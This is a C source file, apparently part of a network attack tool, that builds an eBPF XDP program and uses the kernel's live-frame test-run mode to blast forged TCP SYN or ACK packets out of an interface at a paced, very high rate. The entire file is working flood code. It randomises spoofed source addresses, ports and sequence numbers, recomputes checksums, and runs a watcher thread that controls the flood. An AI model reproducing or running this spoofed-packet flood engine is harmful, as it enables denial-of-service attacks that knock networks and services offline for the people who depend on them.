/* Floods by BPF_PROG_TEST_RUN with live frames: the kernel repeats a program that forges a frame and transmits it on the one
 * interface (XDP_TX), or does nothing until the next one is due. The program is emitted for the order at hand: what does not
 * vary lies in its constants, how far it is in a map that both sides see.
 *
 * To begin and to end takes the kernel some 30 ms, so it is one call from the first frame to the last, watched by a thread.
 */
#include "generate.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/bpf.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "proof.h"

#define INSTRUCTIONS_MAX 160
#define SLOW_RATE \
    150000u /* below it, a process that sleeps between frames does as well and leaves its CPU to others */
#define WATCH_NS 2000000
#define SECOND_NS 1000000000
#define SOURCE_AT 26 /* in the frame */
#define IP_CHECKSUM_AT 24
#define PORT_AT 34
#define SEQ_AT 38
#define ACK_AT 42
#define TCP_CHECKSUM_AT 50
#define TIMESTAMP_AT 62

/* What both sides see. */
struct progress {
    uint64_t began_ns, rate, sent;
    uint64_t catch_up; /* frames that are made up for after a delay, and no more */
    uint64_t limit;
};

/* Registers: R6 the frame, R7 the sum for TCP's checksum, R8 the progress, R9 frames sent. */
struct code {
    struct bpf_insn at[INSTRUCTIONS_MAX];
    uint32_t count;
};

static void emit(struct code *code, struct bpf_insn instruction)
{
    if (code->count < INSTRUCTIONS_MAX)
        code->at[code->count++] = instruction;
}

#define REGISTER(op, to, from) \
    ((struct bpf_insn){.code = BPF_ALU64 | (op) | BPF_X, .dst_reg = (to), .src_reg = (from)})
#define CONSTANT(op, to, value) \
    ((struct bpf_insn){.code = BPF_ALU64 | (op) | BPF_K, .dst_reg = (to), .imm = (int32_t)(value)})
#define CONSTANT32(op, to, value) \
    ((struct bpf_insn){.code = BPF_ALU | (op) | BPF_K, .dst_reg = (to), .imm = (int32_t)(value)})

static void emit_random(struct code *code)
{
    emit(code, (struct bpf_insn){.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_prandom_u32});
}

/* R7 += the two halves of R0. */
static void emit_sum32(struct code *code)
{
    emit(code, REGISTER(BPF_MOV, 1, 0));
    emit(code, CONSTANT(BPF_RSH, 1, 16));
    emit(code, REGISTER(BPF_ADD, 7, 1));
    emit(code, REGISTER(BPF_MOV, 1, 0));
    emit(code, CONSTANT(BPF_AND, 1, 0xffff));
    emit(code, REGISTER(BPF_ADD, 7, 1));
}

/* The frame's bytes at `at` = R0 in network order. */
static void emit_store(struct code *code, int bits, int at)
{
    emit(code, REGISTER(BPF_MOV, 1, 0));
    emit(code, (struct bpf_insn){.code = BPF_ALU | BPF_END | BPF_TO_BE, .dst_reg = 1, .imm = bits});
    emit(code,
         (struct bpf_insn){.code = (uint8_t)(BPF_STX | BPF_MEM | (bits == 16 ? BPF_H : BPF_W)),
                           .dst_reg = 6,
                           .src_reg = 1,
                           .off = (int16_t)at});
}

/* The checksum of R0. [RFC 1071] */
static void emit_checksum(struct code *code, int at)
{
    for (int i = 0; i < 2; i++) {
        emit(code, REGISTER(BPF_MOV, 1, 0));
        emit(code, CONSTANT(BPF_RSH, 1, 16));
        emit(code, CONSTANT(BPF_AND, 0, 0xffff));
        emit(code, REGISTER(BPF_ADD, 0, 1));
    }
    emit(code, CONSTANT(BPF_XOR, 0, 0xffff));
    emit_store(code, 16, at);
}

static void emit_source(struct code *code, const struct attacker_order *order, uint32_t ip_sum)
{
    uint32_t hosts = order->from_length >= 31 ? 0 : (UINT32_C(1) << (32 - order->from_length)) - 2;
    uint32_t first = ntohl(order->from) + (hosts ? 1 : 0);

    emit_random(code);
    emit(code, CONSTANT32(BPF_MOV, 1, hosts));
    emit(code, REGISTER(BPF_MUL, 0, 1));
    emit(code, CONSTANT(BPF_RSH, 0, 32));
    emit(code, CONSTANT32(BPF_MOV, 1, first));
    emit(code, REGISTER(BPF_ADD, 0, 1));
    emit_sum32(code);
    emit_store(code, 32, SOURCE_AT);
    emit(code, REGISTER(BPF_MOV, 0, 7));
    emit(code, CONSTANT32(BPF_MOV, 1, ip_sum));
    emit(code, REGISTER(BPF_ADD, 0, 1));
    emit_checksum(code, IP_CHECKSUM_AT);
}

static void emit_rest(struct code *code, const struct attacker_order *order, uint32_t tcp_sum)
{
    emit_random(code);
    emit_sum32(code);
    emit_store(code, 32, SEQ_AT);
    if (order->plan.flags & FORGE_ACK || order->plan.options) {
        emit_random(code);
        emit_sum32(code);
        emit_store(code, 32, order->plan.options ? TIMESTAMP_AT : ACK_AT);
    }
    emit_random(code);
    emit(code, CONSTANT(BPF_MOD, 0, order->from_port ? 1 : 64000));
    emit(code, CONSTANT(BPF_ADD, 0, order->from_port ? order->from_port : 1024));
    emit_sum32(code);
    emit_store(code, 16, PORT_AT);
    emit(code, REGISTER(BPF_MOV, 0, 7));
    emit(code, CONSTANT32(BPF_MOV, 1, tcp_sum));
    emit(code, REGISTER(BPF_ADD, 0, 1));
    emit_checksum(code, TCP_CHECKSUM_AT);
}

/* ---- when it is due ---- */

static void emit_load(struct code *code, uint8_t to, size_t offset)
{
    emit(code, (struct bpf_insn){.code = BPF_LDX | BPF_MEM | BPF_DW,
                                 .dst_reg = to & 15u,
                                 .src_reg = 8,
                                 .off = (int16_t)offset});
}

static void emit_save(struct code *code, uint8_t from, size_t offset)
{
    emit(code, (struct bpf_insn){.code = BPF_STX | BPF_MEM | BPF_DW,
                                 .dst_reg = 8,
                                 .src_reg = from & 15u,
                                 .off = (int16_t)offset});
}

/* A jump whose end is not known yet. */
static uint32_t emit_jump(struct code *code, uint8_t op, uint8_t left, uint8_t right)
{
    emit(code, (struct bpf_insn){
                   .code = BPF_JMP | BPF_X | op, .dst_reg = left & 15u, .src_reg = right & 15u});
    return code->count - 1;
}

static void land(struct code *code, uint32_t jump)
{
    code->at[jump].off = (int16_t)(code->count - jump - 1);
}

static void emit_end(struct code *code, int verdict)
{
    emit(code, CONSTANT(BPF_MOV, 0, verdict));
    emit(code, (struct bpf_insn){.code = BPF_JMP | BPF_EXIT});
}

/* Ends the program with XDP_DROP unless a frame is due. */
static void emit_pace(struct code *code)
{
    emit(code, (struct bpf_insn){.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_ktime_get_ns});
    emit_load(code, 1, offsetof(struct progress, began_ns));
    emit(code, REGISTER(BPF_SUB, 0, 1));
    emit_load(code, 1, offsetof(struct progress, rate));
    emit(code, REGISTER(BPF_MUL, 0, 1));
    emit(code, CONSTANT(BPF_DIV, 0, SECOND_NS)); /* R0: how many should have been sent */
    uint32_t due = emit_jump(code, BPF_JLT, 9, 0);
    emit_end(code, XDP_DROP);
    land(code, due);
    emit(code, REGISTER(BPF_SUB, 0, 9));
    emit_load(code, 2, offsetof(struct progress, catch_up));
    uint32_t in_time = emit_jump(code, BPF_JLE, 0, 2);
    emit(code, REGISTER(BPF_SUB, 0, 2));
    emit(code, CONSTANT(BPF_MUL, 0, SECOND_NS));
    emit(code, REGISTER(BPF_DIV, 0, 1));
    emit_load(code, 2, offsetof(struct progress, began_ns));
    emit(code, REGISTER(BPF_ADD, 2, 0));
    emit_save(code, 2, offsetof(struct progress, began_ns));
    land(code, in_time);
}

static void emit_progress(struct code *code, int map, bool paced)
{
    emit(code, (struct bpf_insn){.code = BPF_LD | BPF_IMM | BPF_DW,
                                 .dst_reg = 8,
                                 .src_reg = BPF_PSEUDO_MAP_VALUE,
                                 .imm = map});
    emit(code, (struct bpf_insn){0}); /* the offset in it */
    emit_load(code, 9, offsetof(struct progress, sent));
    emit_load(code, 1, offsetof(struct progress, limit));
    uint32_t more = emit_jump(code, BPF_JLT, 9, 1);
    emit_end(code, XDP_DROP);
    land(code, more);
    if (paced)
        emit_pace(code);
    emit(code, CONSTANT(BPF_ADD, 9, 1));
    emit_save(code, 9, offsetof(struct progress, sent));
}

static void emit_program(struct code *code, const struct attacker *attacker,
                         const struct forge_template *template)
{
    emit(code, (struct bpf_insn){.code = BPF_LDX | BPF_MEM | BPF_W, .dst_reg = 6, .src_reg = 1});
    emit(code, (struct bpf_insn){
                   .code = BPF_LDX | BPF_MEM | BPF_W, .dst_reg = 2, .src_reg = 1, .off = 4});
    emit(code, REGISTER(BPF_MOV, 1, 6));
    emit(code, CONSTANT(BPF_ADD, 1, template->length));
    uint32_t whole = emit_jump(code, BPF_JLE, 1, 2);
    emit_end(code, XDP_DROP);
    land(code, whole);
    emit_progress(code, attacker->map, attacker->order.rate > 0);
    emit(code, CONSTANT(BPF_MOV, 7, 0));
    emit_source(code, &attacker->order, template->ip_sum);
    emit_rest(code, &attacker->order, template->transport_sum);
    emit_end(code, XDP_TX);
}

/* ---- the kernel ---- */

static bool make_map(struct attacker *attacker)
{
    union bpf_attr attributes;

    memset(&attributes, 0, sizeof attributes);
    attributes.map_type = BPF_MAP_TYPE_ARRAY;
    attributes.key_size = sizeof(uint32_t);
    attributes.value_size = sizeof(struct progress);
    attributes.max_entries = 1;
    attributes.map_flags = BPF_F_MMAPABLE;
    attacker->map = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes);
    if (attacker->map < 0)
        return false;
    void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, attacker->map, 0);
    attacker->progress = at == MAP_FAILED ? NULL : at;
    return at != MAP_FAILED;
}

static int load(const struct code *code)
{
    static const char license[] = "Dual MIT/GPL";
    union bpf_attr attributes;

    memset(&attributes, 0, sizeof attributes);
    attributes.prog_type = BPF_PROG_TYPE_XDP;
    attributes.insns = (uint64_t)(uintptr_t)code->at;
    attributes.insn_cnt = code->count;
    attributes.license = (uint64_t)(uintptr_t)license;
    return (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof attributes);
}

static bool run(int program, const struct forge_template *template, uint32_t frames)
{
    struct xdp_md context = {.data_end = template->length,
                             .ingress_ifindex = if_nametoindex(PROOF_INTERFACE)};
    union bpf_attr attributes;

    memset(&attributes, 0, sizeof attributes);
    attributes.test.prog_fd = (uint32_t)program;
    attributes.test.data_in = (uint64_t)(uintptr_t) template->frame;
    attributes.test.data_size_in = template->length;
    attributes.test.ctx_in = (uint64_t)(uintptr_t)&context;
    attributes.test.ctx_size_in = sizeof context;
    attributes.test.repeat = frames;
    attributes.test.flags = BPF_F_TEST_XDP_LIVE_FRAMES;
    return syscall(SYS_bpf, BPF_PROG_TEST_RUN, &attributes, sizeof attributes) == 0 ||
           errno == EINTR;
}

bool generate_possible(struct attacker *attacker)
{
    const struct attacker_order *order = &attacker->order;
    struct code code = {.count = 0};

    if ((order->mode != MODE_SYN && order->mode != MODE_ACK) ||
        (order->rate > 0 && order->rate < SLOW_RATE) || !make_map(attacker))
        return false;
    forge_prepare(&attacker->template, &order->plan);
    emit_program(&code, attacker, &attacker->template);
    attacker->program = load(&code);
    return attacker->program >= 0 && code.count < INSTRUCTIONS_MAX &&
           run(attacker->program, &attacker->template, 1); /* nothing is sent: the limit is 0 */
}

static void wake(int number)
{
    (void)number; /* the kernel's loop ends when a signal comes */
}

struct watch {
    struct attacker *attacker;
    pthread_t watched;
    volatile bool ended;
};

/* Looks whether it is to go on, and interrupts it until it has noticed. */
static void *look_on(void *argument)
{
    const struct timespec little = {.tv_nsec = WATCH_NS};
    struct watch *watch = argument;
    volatile const struct progress *progress = watch->attacker->progress;

    while (!watch->ended) {
        nanosleep(&little, NULL);
        watch->attacker->sent = progress->sent;
        if (!attacker_goes_on(watch->attacker))
            pthread_kill(watch->watched, SIGUSR1);
    }
    return NULL;
}

bool generate_flood(struct attacker *attacker)
{
    struct sigaction action = {.sa_handler = wake};
    struct watch watching = {.attacker = attacker, .watched = pthread_self()};
    struct sched_param ordinary = {.sched_priority = 0};
    struct progress *progress = attacker->progress;
    pthread_t watcher;
    bool ok = true;

    /* It never sleeps: at real-time priority the kernel would stop everything of the kind for a while in each second. */
    sched_setscheduler(0, SCHED_OTHER, &ordinary);
    sigaction(SIGUSR1, &action, NULL);
    progress->rate = attacker->order.rate;
    progress->catch_up = attacker->order.rate / 100 + 1;
    progress->began_ns = (uint64_t)attacker_now_us() * 1000;
    progress->limit = attacker->order.count;
    if (pthread_create(&watcher, NULL, look_on, &watching) != 0)
        return false;
    while (ok && attacker_goes_on(attacker))
        ok = run(attacker->program, &attacker->template, UINT32_MAX);
    watching.ended = true;
    pthread_join(watcher, NULL);
    attacker->sent = progress->sent;
    return ok;
}
